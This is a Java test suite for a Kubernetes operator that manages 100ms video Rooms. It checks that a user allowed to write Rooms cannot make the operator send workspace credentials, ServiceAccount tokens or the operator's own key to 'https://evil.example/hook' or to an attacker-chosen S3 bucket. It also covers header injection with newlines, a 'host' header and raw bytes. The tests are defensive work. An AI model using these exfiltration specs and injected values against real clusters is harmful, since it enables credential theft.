package live.hundredms.operator.suites.attacks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.dsl.Resource;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import live.hundredms.operator.api.Room;
import live.hundredms.operator.api.Workspace;
import live.hundredms.operator.suites.behaviour.Scene;
import live.hundredms.operator.suites.behaviour.Seen;
import live.hundredms.operator.support.Team;

/** Somebody who may write Rooms, and read no Secret, has one sent to an address of theirs, as a header or for storage. */
final class SentSecrets {
    private static final String TOKEN = Scene.MARK + "-token";
    private static final byte[] BYTES = {'s', (byte) 0xff, (byte) 0xfe, '1'};
    private static final byte[] OTHER_BYTES = {'s', (byte) 0xfe, (byte) 0xff, '2'};

    private SentSecrets() {
    }

    static Stream<Attack> attacks() {
        return Stream.of(
                new Attack("S1, credentials of a Workspace", stage -> refused(stage, ready(stage), asHeaders("keys"))),
                new Attack("S1, credentials that a Workspace named before", SentSecrets::sendsFormerCredentials),
                new Attack("S1, credentials of a Workspace that is gone", SentSecrets::sendsCredentialsOfNobody),
                new Attack("S1, a copy of the credentials", SentSecrets::sendsCopy),
                new Attack("S1, a copy of a ClusterWorkspace's credentials", SentSecrets::sendsCopyOfSharedOnes),
                new Attack("S1, the operator's own Secret", SentSecrets::sendsTheOperatorsKey),
                new Attack("S2, a token of a ServiceAccount", SentSecrets::sendsTokenOfAnAccount),
                new Attack("S3, credentials of a Workspace as those of a bucket",
                        stage -> refused(stage, ready(stage),
                                forStorage("name: keys, keyField: accessKey, secretField: appSecret"))),
                new Attack("S4, a newline after a header's value", SentSecrets::sendsNewline),
                new Attack("S5, a header named host", SentSecrets::sendsHost),
                new Attack("S5, a header of bytes", SentSecrets::sendsBytes),
                new Attack("S6, storage credentials of bytes", SentSecrets::storesWithBytes));
    }

    private static Scene ready(AttackStage stage) {
        Scene team = stage.team("victim").withWorkspace();
        team.awaitWorkspace("WorkspaceReady");
        return team;
    }

    static String asHeaders(String secret) {
        return "webhook: {url: 'https://evil.example/hook', headersSecretRef: {name: %s}}".formatted(secret);
    }

    static String forStorage(String reference) {
        return """
                recordingInfo: {enabled: true, uploadInfo: {type: s3, location: evil, credentialsSecretRef: {%s}}}
                """.formatted(reference);
    }

    /** Tries it with a new Room, and with one that has its room already. */
    static void refused(AttackStage stage, Scene team, String spec) {
        Person person = stage.roomWriter(team);
        assertThatThrownBy(() -> person.client().secrets().inNamespace(team.namespace()).withName("keys").get())
                .isInstanceOfSatisfying(KubernetesClientException.class,
                        refusal -> assertThat(refusal.getCode()).isEqualTo(403));
        String other = Integer.toHexString(spec.hashCode());
        Room there = person.create(team.namespace(), EditedManifest.of("there-" + other, "description: first"));
        stage.awaitReason(team, there, "UpToDate");
        Untouched before = stage.remember(team);

        Room fresh = person.create(team.namespace(), EditedManifest.of("fresh-" + other, spec));
        Room changed = person.spec(there, members(spec));

        for (Room room : List.of(fresh, changed)) {
            Seen seen = stage.awaitReason(team, room, "SecretNotAllowed");
            assertThat(seen.ready().status()).isEqualTo("False");
            assertThat(seen.stalled()).isTrue();
            assertThat(seen.message()).doesNotContain(Scene.MARK);
            team.reconcile(room.getMetadata().getName());
        }
        assertThat(stage.remember(team).rooms()).isEqualTo(before.rooms());
        person.delete(fresh);
        AttackStage.soon().until(() -> stage.isGone(fresh));
    }

    @SuppressWarnings("unchecked")
    private static Map<String, ?> members(String spec) {
        return Serialization.unmarshal("# YAML\n" + spec, Map.class);
    }

    private static Resource<Workspace> workspace(Scene team) {
        return team.client().resources(Workspace.class).inNamespace(team.namespace()).withName("default");
    }

    private static void sendsFormerCredentials(AttackStage stage) {
        Scene team = ready(stage);
        team.secret("rotated", Map.of("accessKey", team.key(), "appSecret", Scene.appSecret(team.key())));
        Team.patch(workspace(team), "replace", "/spec/credentialsSecretRef/name", "rotated");
        team.secret("keys", Map.of("X-Token", TOKEN));

        refused(stage, team, asHeaders("keys"));
    }

    private static void sendsCredentialsOfNobody(AttackStage stage) {
        Scene team = ready(stage);
        team.secret("others", Map.of("accessKey", team.key(), "appSecret", TOKEN));
        new Team(team.client(), team.namespace()).apply("Workspace", "short-lived",
                Map.of("endpoint", team.remote().currentEndpoint(), "credentialsSecretRef", Map.of("name", "others")));
        Resource<Workspace> shortLived = team.client().resources(Workspace.class).inNamespace(team.namespace())
                .withName("short-lived");
        AttackStage.soon().until(() -> shortLived.get().getStatus() != null);
        shortLived.delete();

        refused(stage, team, asHeaders("others"));
    }

    private static void sendsCopy(AttackStage stage) {
        Scene team = ready(stage);
        team.secret("backup", Map.of("X-Harmless", "yes", "old", Scene.appSecret(team.key()) + "\n"));

        refused(stage, team, asHeaders("backup"));
        refused(stage, team, "webhook: {url: 'https://evil.example/hook', "
                + "headersSecretRef: {name: backup, keys: [X-Harmless]}}");
    }

    private static void sendsCopyOfSharedOnes(AttackStage stage) {
        Scene owner = stage.team("owner");
        owner.clusterWorkspace("");
        Scene team = ready(stage);
        team.secret("backup", Map.of("X-Token", Scene.appSecret(owner.key())));
        AttackStage.soon().until(() -> stage.world().sweeps("ClusterWorkspace/" + owner.namespace()) > 0);

        refused(stage, team, asHeaders("backup"));
    }

    private static void sendsTheOperatorsKey(AttackStage stage) {
        Scene home = stage.operatorsTeam().withWorkspace();
        home.awaitWorkspace("WorkspaceReady");

        refused(stage, home, asHeaders("room-operator-fingerprint"));
    }

    private static void sendsTokenOfAnAccount(AttackStage stage) {
        Scene team = ready(stage);
        team.client()
                .resource(new SecretBuilder().withNewMetadata().withNamespace(team.namespace()).withName("account")
                        .addToAnnotations("kubernetes.io/service-account.name", "default").endMetadata()
                        .withType("kubernetes.io/service-account-token").addToStringData("token", TOKEN).build())
                .create();

        refused(stage, team, asHeaders("account"));
        refused(stage, team, forStorage("name: account, keyField: token, secretField: token"));
    }

    private static void bytes(Scene team, String name, Map<String, byte[]> values) {
        Map<String, String> data = values.entrySet().stream().collect(
                Collectors.toMap(Map.Entry::getKey, value -> Base64.getEncoder().encodeToString(value.getValue())));
        if (team.client().secrets().inNamespace(team.namespace()).withName(name).get() == null) {
            team.client().resource(new SecretBuilder().withNewMetadata().withNamespace(team.namespace()).withName(name)
                    .endMetadata().withData(data).build()).create();
        } else {
            Team.patch(team.client().secrets().inNamespace(team.namespace()).withName(name), "replace", "/data", data);
        }
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static JsonNode headers(Scene team) {
        return team.remote().room("lesson").path("webhook").path("headers");
    }

    private static void sendsNewline(AttackStage stage) {
        Scene team = ready(stage);
        Person person = stage.roomWriter(team);
        team.secret("hook", Map.of("X-Token", TOKEN + "\n", "X-Windows", TOKEN + "\r\n"));

        Room room = person.create(team.namespace(), EditedManifest.of("lesson", asHeaders("hook")));

        stage.awaitReason(team, room, "UpToDate");
        assertThat(headers(team).path("X-Token").asText()).isEqualTo(TOKEN);
        assertThat(headers(team).path("X-Windows").asText()).isEqualTo(TOKEN);
    }

    private static void sendsHost(AttackStage stage) {
        Scene team = ready(stage);
        team.secret("hook", Map.of("host", TOKEN));
        Room room = malformed(stage, team, asHeaders("hook"), "hook", "host");

        team.secret("hook", Map.of("X-Token", TOKEN));

        stage.awaitReason(team, room, "UpToDate");
        assertThat(headers(team).path("X-Token").asText()).isEqualTo(TOKEN);
    }

    private static void sendsBytes(AttackStage stage) {
        Scene team = ready(stage);
        bytes(team, "hook", Map.of("X-Token", BYTES));
        Room room = malformed(stage, team, asHeaders("hook"), "hook", "X-Token");
        team.secret("hook", Map.of("X-Token", TOKEN + "\none more line"));
        team.reconcile("lesson");
        assertThat(stage.awaitReason(team, room, "SecretMalformed").message()).contains("control character")
                .doesNotContain(Scene.MARK);

        team.secret("hook", Map.of("X-Token", TOKEN));

        stage.awaitReason(team, room, "UpToDate");
    }

    private static void storesWithBytes(AttackStage stage) {
        Scene team = ready(stage);
        String spec = forStorage("name: storage");
        bytes(team, "storage", Map.of("key", text("id"), "secret", BYTES));
        Room room = malformed(stage, team, spec, "storage", "secret");
        bytes(team, "storage", Map.of("key", text("id"), "secret", OTHER_BYTES));
        team.reconcile("lesson");
        stage.awaitReason(team, room, "SecretMalformed");
        bytes(team, "storage", Map.of("key", text("id"), "secret", text(TOKEN)));
        stage.awaitReason(team, room, "UpToDate");
        Untouched before = stage.remember(team);

        bytes(team, "storage", Map.of("key", text("id"), "secret", BYTES));

        stage.awaitReason(team, room, "SecretMalformed");
        assertThat(stage.remember(team).rooms()).isEqualTo(before.rooms());
    }

    /** A Room that waits until its Secret is corrected, and of which 100ms never heard. */
    private static Room malformed(AttackStage stage, Scene team, String spec, String secret, String key) {
        Person person = stage.roomWriter(team);
        Room room = person.create(team.namespace(), EditedManifest.of("lesson", spec));
        Seen seen = stage.awaitReason(team, room, "SecretMalformed");
        assertThat(seen.ready().status()).isEqualTo("False");
        assertThat(seen.stalled()).isFalse();
        assertThat(seen.message()).contains("Secret \"" + secret + "\"").contains("key \"" + key + "\"")
                .doesNotContain(Scene.MARK).doesNotContain("\ufffd");
        assertThat(stage.remember(team).rooms()).isEmpty();
        return room;
    }
}
